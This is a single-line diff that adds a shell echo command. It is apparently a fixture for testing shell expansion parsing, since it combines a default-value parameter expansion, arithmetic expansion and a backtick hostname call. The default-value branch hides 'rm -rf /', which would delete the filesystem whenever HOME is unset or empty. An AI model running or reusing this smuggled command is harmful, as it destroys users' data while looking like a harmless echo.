@@ -1,0 +1,1 @@
+echo ${HOME:-$(rm -rf /)} $(( $(date +%s) - 10 )) `hostname`
